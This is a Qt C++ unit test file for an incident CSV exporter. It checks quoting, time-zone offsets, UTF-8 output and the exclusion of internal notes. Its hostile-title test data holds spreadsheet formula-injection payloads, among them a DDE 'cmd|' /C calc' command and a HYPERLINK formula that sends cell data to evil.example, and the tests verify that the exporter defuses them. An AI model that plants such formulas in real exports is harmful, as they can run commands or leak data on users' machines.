#include "IncidentFixture.h"
#include "Rfc4180Reader.h"

#include "history/IncidentCsvWriter.h"

#include <QBuffer>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>

namespace {

constexpr qint64 kMin = 60'000;

// INC-42 from the fixture, resolved: started 13:05 UTC, detected +1 min, acknowledged +3, mitigated +25,
// resolved +95 (1 h 35 min), declared at +2 min.
Incident resolvedIncident()
{
    Incident incident = IncidentFixture::full();
    incident.status = IncidentStatus::Resolved;
    incident.severity = Severity::Sev1;
    incident.commander = QStringLiteral("Camille Durand");
    incident.moments.acknowledgedMs = IncidentFixture::startedMs() + 3 * kMin;
    incident.moments.mitigatedMs = IncidentFixture::startedMs() + 25 * kMin;
    incident.moments.resolvedMs = IncidentFixture::startedMs() + 95 * kMin;
    incident.internalNotes = QStringLiteral("INTERNAL-ONLY: db password is hunter2");
    incident.customerSummary = QStringLiteral("SUMMARY-NOT-EXPORTED");
    return incident;
}

// The record's field by column key.
QString field(const QStringList& header, const QStringList& record, const char* key)
{
    const qsizetype column = header.indexOf(QString::fromLatin1(key));
    return column >= 0 && column < record.size()
               ? record.at(column)
               : QStringLiteral("<missing %1>").arg(QString::fromLatin1(key));
}

} // namespace

// The incidents CSV read back with a strict RFC 4180 reader: the header, every column of a full incident in
// two zones, hostile titles (commas, quotes, line breaks, formulas) and what must never be written.
class TestIncidentCsvWriter : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void headerNamesEveryColumn();
    void writesEveryFieldOfAnIncident();
    void timesCarryTheOffsetOfTheZone_data();
    void timesCarryTheOffsetOfTheZone();
    void hostileTitlesRoundTrip_data();
    void hostileTitlesRoundTrip();
    void unreachedMomentsAreEmptyAndSpansKeepTheirSign();
    void neverWritesInternalNotes();
    void writesUtf8();
    void reportsDeviceAndFileErrors();
    void writesAFileWhole();
};

void TestIncidentCsvWriter::headerNamesEveryColumn()
{
    const QByteArray csv = IncidentCsvWriter(QTimeZone::utc()).toCsv({});
    Rfc4180Reader reader;
    const QList<QStringList> records = reader.read(csv);
    QVERIFY2(reader.error().isEmpty(), qPrintable(reader.error()));
    QCOMPARE(records.size(), 1);
    QCOMPARE(records.at(0), (QStringList{QStringLiteral("reference"),
                                         QStringLiteral("title"),
                                         QStringLiteral("severity"),
                                         QStringLiteral("status"),
                                         QStringLiteral("declared_at"),
                                         QStringLiteral("started_at"),
                                         QStringLiteral("detected_at"),
                                         QStringLiteral("acknowledged_at"),
                                         QStringLiteral("mitigated_at"),
                                         QStringLiteral("resolved_at"),
                                         QStringLiteral("ttd_seconds"),
                                         QStringLiteral("ttd_minutes"),
                                         QStringLiteral("tta_seconds"),
                                         QStringLiteral("tta_minutes"),
                                         QStringLiteral("ttm_seconds"),
                                         QStringLiteral("ttm_minutes"),
                                         QStringLiteral("ttr_seconds"),
                                         QStringLiteral("ttr_minutes"),
                                         QStringLiteral("affected_services"),
                                         QStringLiteral("commander"),
                                         QStringLiteral("drill")}));
    QVERIFY(csv.endsWith("drill\r\n"));
}

void TestIncidentCsvWriter::writesEveryFieldOfAnIncident()
{
    Incident drill = resolvedIncident();
    drill.reference = QStringLiteral("INC-43");
    drill.drill = true;
    drill.affected.clear();
    drill.commander.clear();
    const QByteArray csv = IncidentCsvWriter(QTimeZone("Europe/Paris")).toCsv({resolvedIncident(), drill});
    Rfc4180Reader reader;
    const QList<QStringList> records = reader.read(csv);
    QVERIFY2(reader.error().isEmpty(), qPrintable(reader.error()));
    QCOMPARE(records.size(), 3);
    const QStringList& header = records.at(0);
    const QStringList& row = records.at(1);
    QCOMPARE(row.size(), header.size());
    QCOMPARE(field(header, row, "reference"), QStringLiteral("INC-42"));
    QCOMPARE(field(header, row, "title"), QStringLiteral("Checkout errors"));
    QCOMPARE(field(header, row, "severity"), QStringLiteral("SEV1"));
    QCOMPARE(field(header, row, "status"), QStringLiteral("resolved"));
    // 13:05 UTC is 14:05 in Paris in March (UTC+1).
    QCOMPARE(field(header, row, "declared_at"), QStringLiteral("2026-03-03T14:07:00+01:00"));
    QCOMPARE(field(header, row, "started_at"), QStringLiteral("2026-03-03T14:05:00+01:00"));
    QCOMPARE(field(header, row, "detected_at"), QStringLiteral("2026-03-03T14:06:00+01:00"));
    QCOMPARE(field(header, row, "acknowledged_at"), QStringLiteral("2026-03-03T14:08:00+01:00"));
    QCOMPARE(field(header, row, "mitigated_at"), QStringLiteral("2026-03-03T14:30:00+01:00"));
    QCOMPARE(field(header, row, "resolved_at"), QStringLiteral("2026-03-03T15:40:00+01:00"));
    // Detect: 1 min; acknowledge: detected → acknowledged, 2 min; mitigate 25 min; resolve 95 min.
    QCOMPARE(field(header, row, "ttd_seconds"), QStringLiteral("60"));
    QCOMPARE(field(header, row, "ttd_minutes"), QStringLiteral("1.00"));
    QCOMPARE(field(header, row, "tta_seconds"), QStringLiteral("120"));
    QCOMPARE(field(header, row, "tta_minutes"), QStringLiteral("2.00"));
    QCOMPARE(field(header, row, "ttm_seconds"), QStringLiteral("1500"));
    QCOMPARE(field(header, row, "ttm_minutes"), QStringLiteral("25.00"));
    QCOMPARE(field(header, row, "ttr_seconds"), QStringLiteral("5700"));
    QCOMPARE(field(header, row, "ttr_minutes"), QStringLiteral("95.00"));
    QCOMPARE(field(header, row, "affected_services"), QStringLiteral("API; Website; Login"));
    QCOMPARE(field(header, row, "commander"), QStringLiteral("Camille Durand"));
    QCOMPARE(field(header, row, "drill"), QStringLiteral("false"));

    const QStringList& second = records.at(2);
    QCOMPARE(field(header, second, "reference"), QStringLiteral("INC-43"));
    QCOMPARE(field(header, second, "drill"), QStringLiteral("true"));
    QCOMPARE(field(header, second, "affected_services"), QString());
    QCOMPARE(field(header, second, "commander"), QString());
}

void TestIncidentCsvWriter::timesCarryTheOffsetOfTheZone_data()
{
    QTest::addColumn<QString>("zone");
    QTest::addColumn<qint64>("atMs");
    QTest::addColumn<QString>("cell");

    const qint64 march = IncidentFixture::utc(2026, 3, 3, 13, 5);
    QTest::newRow("UTC writes +00:00, not Z")
        << QStringLiteral("UTC") << march << QStringLiteral("2026-03-03T13:05:00+00:00");
    QTest::newRow("New York, winter")
        << QStringLiteral("America/New_York") << march << QStringLiteral("2026-03-03T08:05:00-05:00");
    QTest::newRow("Paris, summer") << QStringLiteral("Europe/Paris")
                                   << IncidentFixture::utc(2026, 7, 14, 22, 30)
                                   << QStringLiteral("2026-07-15T00:30:00+02:00");
    QTest::newRow("Kolkata, half hour")
        << QStringLiteral("Asia/Kolkata") << march << QStringLiteral("2026-03-03T18:35:00+05:30");
    QTest::newRow("St John's, negative half hour")
        << QStringLiteral("America/St_Johns") << march << QStringLiteral("2026-03-03T09:35:00-03:30");
    QTest::newRow("seconds are kept")
        << QStringLiteral("UTC") << march + 42'999 << QStringLiteral("2026-03-03T13:05:42+00:00");
    QTest::newRow("never reached") << QStringLiteral("UTC") << qint64(0) << QString();
}

void TestIncidentCsvWriter::timesCarryTheOffsetOfTheZone()
{
    QFETCH(QString, zone);
    QFETCH(qint64, atMs);
    const QTimeZone timeZone(zone.toUtf8());
    QVERIFY2(timeZone.isValid(), qPrintable(zone));
    QTEST(IncidentCsvWriter(timeZone).timeCell(atMs), "cell");
}

void TestIncidentCsvWriter::hostileTitlesRoundTrip_data()
{
    QTest::addColumn<QString>("title");
    QTest::addColumn<QString>("read");
    QTest::addColumn<QByteArray>("raw"); // how the cell must appear in the file

    QTest::newRow("plain") << QStringLiteral("Checkout errors") << QStringLiteral("Checkout errors")
                           << QByteArray(",Checkout errors,");
    QTest::newRow("comma") << QStringLiteral("Payments, refunds") << QStringLiteral("Payments, refunds")
                           << QByteArray(",\"Payments, refunds\",");
    QTest::newRow("quotes") << QStringLiteral("The \"cart\" page") << QStringLiteral("The \"cart\" page")
                            << QByteArray(",\"The \"\"cart\"\" page\",");
    QTest::newRow("line break") << QStringLiteral("First line\nsecond line")
                                << QStringLiteral("First line\nsecond line")
                                << QByteArray(",\"First line\nsecond line\",");
    QTest::newRow("CRLF inside") << QStringLiteral("a\r\nb") << QStringLiteral("a\r\nb")
                                 << QByteArray(",\"a\r\nb\",");
    QTest::newRow("only a quote") << QStringLiteral("\"") << QStringLiteral("\"") << QByteArray(",\"\"\"\",");
    QTest::newRow("formula =") << QStringLiteral("=1+1") << QStringLiteral("'=1+1") << QByteArray(",'=1+1,");
    QTest::newRow("formula +") << QStringLiteral("+33 6 12") << QStringLiteral("'+33 6 12")
                               << QByteArray(",'+33 6 12,");
    QTest::newRow("formula -") << QStringLiteral("-2+3+cmd|' /C calc'!A0")
                               << QStringLiteral("'-2+3+cmd|' /C calc'!A0")
                               << QByteArray(",'-2+3+cmd|' /C calc'!A0,");
    QTest::newRow("formula @") << QStringLiteral("@SUM(A1:A9)") << QStringLiteral("'@SUM(A1:A9)")
                               << QByteArray(",'@SUM(A1:A9),");
    QTest::newRow("formula after a tab")
        << QStringLiteral("\t=1") << QStringLiteral("'\t=1") << QByteArray(",'\t=1,");
    QTest::newRow("formula with commas and quotes")
        << QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")
        << QStringLiteral("'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")
        << QByteArray(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",");
    QTest::newRow("sign inside is harmless")
        << QStringLiteral("Load +50%") << QStringLiteral("Load +50%") << QByteArray(",Load +50%,");
    QTest::newRow("unicode") << QStringLiteral("Paiements échoués — 支付 🔥")
                             << QStringLiteral("Paiements échoués — 支付 🔥")
                             << QStringLiteral(",Paiements échoués — 支付 🔥,").toUtf8();
    QTest::newRow("empty") << QString() << QString() << QByteArray(",,SEV1,");
}

void TestIncidentCsvWriter::hostileTitlesRoundTrip()
{
    QFETCH(QString, title);
    QFETCH(QByteArray, raw);
    Incident incident = resolvedIncident();
    incident.title = title;
    // The same defusing applies to the other free-text cells.
    incident.commander = QStringLiteral("=cmd");
    incident.affected = {{1, QStringLiteral("@api"), Impact::MajorOutage},
                         {2, QStringLiteral("web, eu"), Impact::PartialOutage}};
    const QByteArray csv = IncidentCsvWriter(QTimeZone::utc()).toCsv({incident});
    QVERIFY2(csv.contains(raw), csv.constData());
    Rfc4180Reader reader;
    const QList<QStringList> records = reader.read(csv);
    QVERIFY2(reader.error().isEmpty(), qPrintable(reader.error()));
    QCOMPARE(records.size(), 2);
    QCOMPARE(records.at(1).size(), records.at(0).size());
    QTEST(field(records.at(0), records.at(1), "title"), "read");
    QCOMPARE(field(records.at(0), records.at(1), "commander"), QStringLiteral("'=cmd"));
    QCOMPARE(field(records.at(0), records.at(1), "affected_services"), QStringLiteral("'@api; web, eu"));
    QCOMPARE(field(records.at(0), records.at(1), "reference"), QStringLiteral("INC-42"));
}

void TestIncidentCsvWriter::unreachedMomentsAreEmptyAndSpansKeepTheirSign()
{
    Incident open = IncidentFixture::full();
    open.moments.detectedMs = 0;
    // Mitigated typed 5 min before the start: the span is -300 s, written as a number, not defused.
    open.moments.mitigatedMs = open.moments.startedMs - 5 * kMin;
    // 90.5 s from start to resolve: rounded to 91 s, 1.51 min.
    open.moments.resolvedMs = open.moments.startedMs + 90'500;
    const QByteArray csv = IncidentCsvWriter(QTimeZone::utc()).toCsv({open});
    Rfc4180Reader reader;
    const QList<QStringList> records = reader.read(csv);
    QVERIFY2(reader.error().isEmpty(), qPrintable(reader.error()));
    const QStringList& header = records.at(0);
    const QStringList& row = records.at(1);
    QCOMPARE(field(header, row, "detected_at"), QString());
    QCOMPARE(field(header, row, "acknowledged_at"), QString());
    QCOMPARE(field(header, row, "ttd_seconds"), QString());
    QCOMPARE(field(header, row, "ttd_minutes"), QString());
    QCOMPARE(field(header, row, "tta_seconds"), QString());
    QCOMPARE(field(header, row, "ttm_seconds"), QStringLiteral("-300"));
    QCOMPARE(field(header, row, "ttm_minutes"), QStringLiteral("-5.00"));
    QCOMPARE(field(header, row, "ttr_seconds"), QStringLiteral("91"));
    QCOMPARE(field(header, row, "ttr_minutes"), QStringLiteral("1.51"));
    QCOMPARE(field(header, row, "status"), QStringLiteral("investigating"));
}

void TestIncidentCsvWriter::neverWritesInternalNotes()
{
    const QByteArray csv = IncidentCsvWriter(QTimeZone::utc()).toCsv({resolvedIncident()});
    QVERIFY(csv.contains("INC-42"));
    QVERIFY(!csv.contains("INTERNAL-ONLY"));
    QVERIFY(!csv.contains("hunter2"));
    QVERIFY(!csv.contains("SUMMARY-NOT-EXPORTED"));
}

void TestIncidentCsvWriter::writesUtf8()
{
    Incident incident = resolvedIncident();
    incident.title = QStringLiteral("Réseau");
    const QByteArray csv = IncidentCsvWriter(QTimeZone::utc()).toCsv({incident});
    QVERIFY(csv.contains("R\xC3\xA9seau"));
    // No byte-order mark: the header's first key is read as "reference" by every script.
    QVERIFY(csv.startsWith("reference,"));
}

void TestIncidentCsvWriter::reportsDeviceAndFileErrors()
{
    IncidentCsvWriter writer(QTimeZone::utc());
    QBuffer readOnly;
    QVERIFY(readOnly.open(QIODevice::ReadOnly));
    QVERIFY(!writer.write({resolvedIncident()}, &readOnly));
    QVERIFY(!writer.errorString().isEmpty());

    QBuffer buffer;
    QVERIFY(buffer.open(QIODevice::WriteOnly));
    QVERIFY(writer.write({resolvedIncident()}, &buffer));
    QVERIFY(writer.errorString().isEmpty());
    QCOMPARE(buffer.data(), writer.toCsv({resolvedIncident()}));

    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString nowhere = dir.filePath(QStringLiteral("missing-folder/incidents.csv"));
    QVERIFY(!writer.writeFile({resolvedIncident()}, nowhere));
    QVERIFY2(writer.errorString().contains(nowhere), qPrintable(writer.errorString()));
    QVERIFY(!QFile::exists(nowhere));
}

void TestIncidentCsvWriter::writesAFileWhole()
{
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString path = dir.filePath(QStringLiteral("incidents.csv"));
    IncidentCsvWriter writer(QTimeZone("Europe/Paris"));
    QVERIFY2(writer.writeFile({resolvedIncident()}, path), qPrintable(writer.errorString()));
    QFile file(path);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray bytes = file.readAll();
    QCOMPARE(bytes, writer.toCsv({resolvedIncident()}));
    Rfc4180Reader reader;
    QCOMPARE(reader.read(bytes).size(), 2);
}

QTEST_GUILESS_MAIN(TestIncidentCsvWriter)
#include "tst_incidentcsvwriter.moc"
